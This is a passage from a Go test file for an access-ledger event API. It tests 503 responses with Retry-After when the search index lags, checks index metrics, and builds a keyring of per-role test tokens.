	for _, path := range []string{"/v1/events", "/v1/events/count", "/v1/events/top?field=actor.id", "/v1/evidence"} {
		wantError(t, "GET "+path, ts.get(t, path, ts.auditor()), http.StatusServiceUnavailable)
	}
	// POST /v1/events is unaffected.
	if r := ts.post(t, "application/json", eventJSON(t, 1)); r.status != http.StatusCreated {
		t.Errorf("POST /v1/events = %v", r)
	}
}

func TestQueryMetrics(t *testing.T) {
	qs := newQueryServer(t)
	qs.post(t, 0, qevents(0, 20))
	r := qs.get(t, "/metrics", qs.admin())
	for series, want := range map[string]float64{"accessledger_index_size": 20, "accessledger_index_lag_entries": 0} {
		if v, ok := metricValue(t, r.body, series); !ok || v != want {
			t.Errorf("metric %s = %v (found %v), want %v", series, v, ok, want)
		}
	}
}

// behindIndex is an index that says it is behind.
type behindIndex struct{ api.Searcher }

func (behindIndex) Behind() bool { return true }

// TestAppendsWaitForABehindIndex: while the index lags more than it may,
// appends get 503 with Retry-After, and nothing is appended.
func TestAppendsWaitForABehindIndex(t *testing.T) {
	qs := newQueryServer(t)
	srv := newAPIServer(t, qs.l, api.Config{Keys: mustKeyring(t, qs.tokens), Index: behindIndex{qs.x}})
	before, _ := qs.l.Size()
	r := call(t, srv.URL, http.MethodPost, "/v1/events", qs.submitter(), "application/json", qevents(0, 1)[0].json(0))
	wantError(t, "POST while the index is behind", r, http.StatusServiceUnavailable)
	if r.header.Get("Retry-After") == "" {
		t.Errorf("POST while the index is behind: no Retry-After")
	}
	if after, _ := qs.l.Size(); after != before {
		t.Errorf("log size %d, want %d: nothing appended", after, before)
	}
	// The real index, caught up, does not hold appends back.
	if r := qs.testServer.post(t, "application/json", qevents(0, 1)[0].json(0)); r.status != http.StatusCreated {
		t.Errorf("POST = %v, want 201", r)
	}
}

// mustKeyring returns a keyring of the test server's tokens, one key per
// role, for a second server over its ledger.
func mustKeyring(t *testing.T, tokens map[api.Role]string) *api.Keyring {
	t.Helper()
	var keys []api.APIKey
	for r, tok := range tokens {
		keys = append(keys, api.APIKey{Name: "k-" + string(r), SHA256: api.HashToken(tok), Roles: []api.Role{r}})
	}
	kr, err := api.NewKeyring(keys)
	if err != nil {
		t.Fatal(err)
	}
	return kr
}
